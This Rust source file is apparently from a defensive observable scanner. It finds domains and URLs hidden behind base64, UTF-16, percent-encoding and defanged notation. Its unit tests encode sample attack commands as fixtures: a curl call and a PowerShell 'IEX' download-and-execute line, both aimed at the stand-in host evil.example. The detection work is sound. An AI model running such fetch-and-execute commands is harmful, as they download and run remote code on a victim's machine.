//! The whole search: plain observables first, then behind each disguise, each inside the other to a small depth.

use vauban_intake::{Budget, Problem};
use vauban_model::ObservableKind;

use super::{
    Candidate, defang,
    disguise::{self, Stretches, Uncovered},
    token::{Tokens, scan_tokens},
};
use crate::Passage;

/// Disguises inside disguises that are undone: base64 of UTF-16 of a percent-encoded URL needs three.
const DEEPEST: usize = 4;

/// Takes what the scanner finds.
pub trait Found {
    /// Something that reads like an observable.
    fn candidate(&mut self, candidate: Candidate<'_>);

    /// A whole file that was pasted into the text in an encoding, to be read as an item of its own.
    fn embedded(&mut self, bytes: &[u8], how: &[&'static str], offset: Option<u64>);
}

/// Finds every observable in a passage.
///
/// # Errors
/// When the budget of time or bytes is spent; what was found until then was handed over.
pub fn scan(passage: &Passage<'_>, budget: &Budget, found: &mut dyn Found) -> Result<(), Problem> {
    let place = Place { offset: passage.offset, fixed: false };
    level(passage.bytes, place, passage.how, budget, found)
}

/// How offsets in a text relate to the item: they count on from `offset`, or all lie at it.
#[derive(Clone, Copy)]
struct Place {
    offset: Option<u64>,
    fixed: bool,
}

impl Place {
    fn of(self, at: usize) -> Option<u64> {
        let at = if self.fixed { 0 } else { at as u64 };
        self.offset.map(|offset| offset.saturating_add(at))
    }

    fn inside(self, at: usize) -> Self {
        Self { offset: self.of(at), fixed: true }
    }
}

fn level(
    text: &[u8],
    place: Place,
    how: &[&'static str],
    budget: &Budget,
    found: &mut dyn Found,
) -> Result<(), Problem> {
    budget.check_time()?;
    let mut outcome = Ok(());
    let mut plain = Plain { text, place, how, budget, found, stretches: Stretches::default(), outcome: Ok(()) };
    scan_tokens(text, &mut plain);
    let Plain { stretches, .. } = &mut plain;
    let mut rest = std::mem::take(stretches);
    let first = plain.outcome;
    let found = plain.found;
    first?;
    let mut deeper = |step: &'static str, bytes: &[u8], at: usize| {
        if outcome.is_ok() {
            outcome = uncovered(step, bytes, at, place, how, budget, found);
        }
    };
    rest.flush(text, &mut deeper);
    if how.len() >= DEEPEST {
        return outcome;
    }
    disguise::utf_16(text, &mut deeper);
    disguise::percent(text, &mut deeper);
    disguise::quoted_printable(text, &mut deeper);
    disguise::escaped_slashes(text, &mut deeper);
    outcome?;
    if how.contains(&"defanged") {
        return Ok(());
    }
    let steps = with(how, "defanged");
    defang::uncover(text, &mut |clear, places| {
        let mut windowed = Refanged { clear, places, place, how: &steps, found };
        scan_tokens(clear, &mut windowed);
    });
    Ok(())
}

fn with(how: &[&'static str], step: &'static str) -> Vec<&'static str> {
    let mut steps = Vec::with_capacity(how.len() + 1);
    steps.extend_from_slice(how);
    steps.push(step);
    steps
}

/// Goes on inside a decoded stretch.
fn uncovered(
    step: &'static str,
    bytes: &[u8],
    at: usize,
    place: Place,
    how: &[&'static str],
    budget: &Budget,
    found: &mut dyn Found,
) -> Result<(), Problem> {
    if how.len() >= DEEPEST {
        return Ok(());
    }
    budget.spend_bytes(bytes.len() as u64)?;
    let steps = with(how, step);
    if disguise::is_file(bytes) {
        found.embedded(bytes, &steps, place.of(at));
        return Ok(());
    }
    level(bytes, place.inside(at), &steps, budget, found)
}

/// The first pass over a text.
struct Plain<'p> {
    text: &'p [u8],
    place: Place,
    how: &'p [&'static str],
    budget: &'p Budget,
    found: &'p mut dyn Found,
    stretches: Stretches,
    outcome: Result<(), Problem>,
}

impl Tokens for Plain<'_> {
    fn observable(&mut self, kind: ObservableKind, value: &str, at: usize) {
        let Self { text, place, how, .. } = *self;
        self.found.candidate(Candidate { kind, value, text, at, offset: place.of(at), how });
    }

    fn long(&mut self, start: usize, end: usize) {
        let Self { text, place, how, budget, found, stretches, outcome } = self;
        let deeper: &mut Uncovered<'_> = &mut |step, bytes, at| {
            if outcome.is_ok() {
                *outcome = uncovered(step, bytes, at, *place, how, budget, *found);
            }
        };
        stretches.token(text, start, end, deeper);
    }
}

/// A pass over a refanged stretch, whose places are those of the defanged one.
struct Refanged<'p> {
    clear: &'p [u8],
    places: &'p [usize],
    place: Place,
    how: &'p [&'static str],
    found: &'p mut dyn Found,
}

impl Tokens for Refanged<'_> {
    fn observable(&mut self, kind: ObservableKind, value: &str, at: usize) {
        let original = self.places.get(at).copied().unwrap_or_default();
        self.found.candidate(Candidate {
            kind,
            value,
            text: self.clear,
            at,
            offset: self.place.of(original),
            how: self.how,
        });
    }

    fn long(&mut self, _start: usize, _end: usize) {}
}

#[cfg(test)]
mod tests {
    use vauban_intake::{Limits, StopFlag};

    use super::*;
    use crate::Context;

    #[derive(Default)]
    struct All(Vec<(ObservableKind, String, Option<u64>, Vec<&'static str>)>, Vec<Vec<u8>>);

    impl Found for All {
        fn candidate(&mut self, c: Candidate<'_>) {
            self.0.push((c.kind, c.value.to_owned(), c.offset, c.how.to_vec()));
        }

        fn embedded(&mut self, bytes: &[u8], _how: &[&'static str], _offset: Option<u64>) {
            self.1.push(bytes.to_vec());
        }
    }

    fn scan_all(bytes: &[u8]) -> All {
        let mut all = All::default();
        let passage = Passage { bytes, offset: Some(100), how: &[], context: Context::default() };
        scan(&passage, &Budget::new(Limits::default(), StopFlag::default()), &mut all).unwrap();
        all
    }

    fn how(text: &[u8], value: &str) -> Option<(Option<u64>, Vec<&'static str>)> {
        let mut hits: Vec<_> =
            scan_all(text).0.into_iter().filter(|hit| hit.1 == value).map(|hit| (hit.2, hit.3)).collect();
        hits.sort_by_key(|hit| hit.1.len());
        hits.into_iter().next()
    }

    #[test]
    fn offsets_and_steps_are_told() {
        assert_eq!(how(b"at login.evil.example now", "login.evil.example"), Some((Some(103), vec![])));
        assert_eq!(how(b"at evil[.]example now", "evil.example"), Some((Some(103), vec!["defanged"])));
        let encoded = data_encoding::BASE64.encode(b"curl http://evil.example/x");
        assert_eq!(how(encoded.as_bytes(), "evil.example"), Some((Some(100), vec!["base64"])));
        let command: Vec<u8> = "IEX http://evil.example/x".encode_utf16().flat_map(u16::to_le_bytes).collect();
        let encoded = format!("powershell -enc {}", data_encoding::BASE64.encode(&command));
        assert_eq!(how(encoded.as_bytes(), "evil.example"), Some((Some(116), vec!["base64", "utf-16"])));
        let twice = data_encoding::BASE64.encode(data_encoding::BASE64.encode(b"http://evil.example/x").as_bytes());
        assert_eq!(how(twice.as_bytes(), "evil.example").unwrap().1, vec!["base64", "base64"]);
        assert_eq!(
            how(b"u=hxxp%3A%2F%2Fevil[.]example%2F", "evil.example").unwrap().1,
            vec!["percent-encoding", "defanged"]
        );
        assert_eq!(how(br#"{"u":"http:\/\/evil.example\/a"}"#, "http://evil.example/a").unwrap().1, vec!["escaped"]);
    }

    #[test]
    fn a_pasted_file_is_an_item() {
        let zip = [b"PK\x03\x04".as_slice(), &[7; 40]].concat();
        let text = format!("attached: {}", data_encoding::BASE64.encode(&zip));
        assert_eq!(scan_all(text.as_bytes()).1, vec![zip]);
    }

    #[test]
    fn the_budget_of_time_ends_a_scan() {
        let stop = StopFlag::default();
        stop.raise();
        let passage = Passage { bytes: b"x", offset: None, how: &[], context: Context::default() };
        let budget = Budget::new(Limits::default(), stop);
        assert!(scan(&passage, &budget, &mut All::default()).is_err());
    }
}
